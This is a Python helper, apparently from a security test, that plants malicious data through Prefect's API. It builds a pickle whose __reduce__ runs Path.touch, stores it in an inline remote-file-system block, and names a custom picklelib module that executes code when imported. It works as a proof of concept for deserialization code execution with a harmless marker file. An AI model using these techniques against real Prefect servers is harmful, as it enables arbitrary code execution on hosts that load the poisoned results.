"""What somebody who may write to Prefect's API hides in it: data that becomes code where it is loaded."""

from __future__ import annotations

import base64
import json
import pickle
from pathlib import Path
from typing import Any
from uuid import uuid4

from prefect_api import PrefectApi

KEY = "payload"
MODULE = "strange_serializer"
"""Touches the file that its environment names, when it is imported."""


class Touch:
    """Leaves a file behind when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return Path.touch, (self._mark,)


def record(mark: Path) -> str:
    """A result as Prefect stores one."""
    blob = base64.encodebytes(pickle.dumps(Touch(mark))).decode()
    metadata = {"storage_key": KEY, "serializer": {"type": "pickle"}}
    return json.dumps({"metadata": metadata, "result": blob})


def block(api: PrefectApi, kind: str, data: dict[str, Any]) -> str:
    """Makes a block of such a type; its id."""
    of = api.ask("GET", f"/block_types/slug/{kind}")["id"]
    schemas = api.ask("POST", "/block_schemas/filter", {"block_schemas": {"block_type_id": {"any_": [of]}}})
    name = f"poison-{uuid4().hex[:8]}"
    made = {"name": name, "block_type_id": of, "block_schema_id": schemas[0]["id"], "data": data}
    return str(api.ask("POST", "/block_documents/", made)["id"])


def result(api: PrefectApi, mark: Path) -> dict[str, object]:
    """The data of a state whose result leaves a mark where it is loaded. Its block is a place of files that
    holds its only file itself: no server and no file of the attacker's is needed."""
    inline = {"basepath": "reference://h", "settings": {"fo": {f"h/{KEY}": record(mark)}}}
    of = block(api, "remote-file-system", inline)
    return {"serializer": {"type": "pickle"}, "storage_key": KEY, "storage_block_id": of}


def importing() -> dict[str, object]:
    """The data of a state that names a module of its own to read it."""
    return {"serializer": {"type": "pickle", "picklelib": MODULE}, "storage_key": KEY}


def module(folder: Path, mark: Path) -> None:
    """Puts the module there; it stands for one of those that do something as they are imported."""
    text = f"from pathlib import Path\nPath({str(mark)!r}).touch()\nloads = dumps = print\n"
    (folder / f"{MODULE}.py").write_text(text)
